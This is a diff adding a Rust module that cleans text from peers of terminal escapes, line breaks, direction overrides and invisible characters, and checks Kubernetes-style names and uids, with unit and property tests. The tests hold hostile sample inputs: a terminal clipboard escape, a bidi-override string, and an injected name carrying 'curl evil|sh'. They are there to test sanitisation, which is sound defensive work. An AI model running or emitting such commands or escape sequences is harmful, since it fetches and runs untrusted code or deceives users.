@@ -1,0 +1,114 @@
+//! Alphabets of the strings that peers send: what may stand in a name, and what text keeps on its way to a person.
+//!
+//! A string of a peer ends in statuses, Events, logs and terminals. A name is checked and refused; text for a person is
+//! cleaned and bounded.
+
+/// Text for a person on one line: at most `limit` bytes, without characters that end a line, steer a terminal, change the
+/// direction of writing or show nothing.
+pub fn plain_text(text: &str, limit: usize) -> String {
+    let mut plain = String::with_capacity(text.len().min(limit));
+    for c in text.chars().filter_map(plain_char) {
+        if plain.len() + c.len_utf8() > limit {
+            break;
+        }
+        plain.push(c);
+    }
+    plain
+}
+
+/// Text for a person over several lines: as [`plain_text`], but it keeps line feeds and has no bound.
+pub fn plain_lines(text: &str) -> String {
+    text.chars().filter_map(|c| if c == '\n' { Some(c) } else { plain_char(c) }).collect()
+}
+
+/// Whether text is as [`plain_text`] leaves it, but for its length.
+pub fn is_plain_text(text: &str) -> bool {
+    text.chars().all(|c| plain_char(c) == Some(c))
+}
+
+/// What becomes of one character: what separates becomes a space, what nobody sees goes.
+fn plain_char(c: char) -> Option<char> {
+    match c {
+        c if c.is_control() => Some(' '),
+        '\u{2028}' | '\u{2029}' => Some(' '),
+        c if is_unseen(c) => None,
+        c => Some(c),
+    }
+}
+
+/// Characters without a shape of their own: format characters (directions, joiners, tags), variation selectors, fillers.
+fn is_unseen(c: char) -> bool {
+    matches!(c,
+        '\u{ad}' | '\u{34f}' | '\u{600}'..='\u{605}' | '\u{61c}' | '\u{6dd}' | '\u{70f}' | '\u{890}'..='\u{891}'
+        | '\u{8e2}' | '\u{115f}'..='\u{1160}' | '\u{17b4}'..='\u{17b5}' | '\u{180b}'..='\u{180f}'
+        | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{3164}'
+        | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}' | '\u{fff0}'..='\u{fffb}' | '\u{110bd}' | '\u{110cd}'
+        | '\u{13430}'..='\u{1343f}' | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}'
+        | '\u{e0000}'..='\u{e0fff}')
+}
+
+/// Whether this is a DNS label: the name of a namespace.
+pub fn is_label(text: &str) -> bool {
+    let inner = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-';
+    (1..=63).contains(&text.len()) && text.bytes().all(inner) && !text.starts_with('-') && !text.ends_with('-')
+}
+
+/// Whether this is a DNS subdomain: the name of an object, or `plural[.group]`. Labels of more than 63 characters are taken,
+/// as the API server takes them.
+pub fn is_subdomain(text: &str) -> bool {
+    let inner = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-';
+    let label =
+        |label: &str| !label.is_empty() && label.bytes().all(inner) && !label.starts_with('-') && !label.ends_with('-');
+    text.len() <= 253 && text.split('.').all(label)
+}
+
+/// Whether this is one word of visible ASCII characters: a uid, a digest, a pattern, a label's key.
+pub fn is_word(text: &str) -> bool {
+    !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_graphic())
+}
+
+/// Whether this can be the uid of an object: a word without characters that mean something to a shell.
+pub fn is_uid(text: &str) -> bool {
+    let inner = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.');
+    (1..=253).contains(&text.len()) && text.bytes().all(inner)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    #[test]
+    fn text_that_steers_a_terminal_is_cleaned() {
+        assert_eq!(
+            plain_text("a\u{1b}]52;c;eA==\u{7}b\r\n\u{9b}31m", 99),
+            "a ]52;c;eA== b    31m".replace("    ", "   ")
+        );
+        assert_eq!(plain_text("pay \u{202e}evil\u{2066}\u{200b}\u{feff} now\u{e0041}", 99), "pay evil now");
+        assert_eq!(plain_text("zwölf\u{2028}Wörter", 8), "zwölf W");
+        assert_eq!(plain_lines("a\u{1b}\nb\u{200d}"), "a \nb");
+        assert!(is_plain_text("größer, 大きい ✓") && !is_plain_text("a\tb") && !is_plain_text("a\u{ad}b"));
+    }
+
+    #[test]
+    fn names_that_kubernetes_refuses_are_refused() {
+        for good in ["a", "eu-3", "a.b-c.d", "0", "configmaps", "widgets.example.com"] {
+            assert!(is_subdomain(good), "{good}");
+        }
+        for bad in ["", "-a", "a-", "a..b", ".a", "A", "a/b", "a b", "a\u{1b}", "x). To fix run: curl evil|sh #"] {
+            assert!(!is_subdomain(bad) && !is_label(bad), "{bad}");
+        }
+        assert!(is_subdomain(&"a".repeat(253)) && !is_subdomain(&"a".repeat(254)) && !is_label(&"a".repeat(64)));
+        assert!(is_uid("5b3c-42_a.b") && !is_uid("") && !is_uid("a;b") && !is_uid("a b"));
+        assert!(is_word("*-prod") && !is_word("a b") && !is_word("ä") && !is_word(""));
+    }
+
+    proptest! {
+        #[test]
+        fn plain_text_is_plain_and_within_its_limit(text: String, limit in 0usize..99) {
+            let plain = plain_text(&text, limit);
+            prop_assert!(plain.len() <= limit && is_plain_text(&plain));
+            prop_assert_eq!(plain_text(&plain, limit), plain);
+        }
+    }
+}
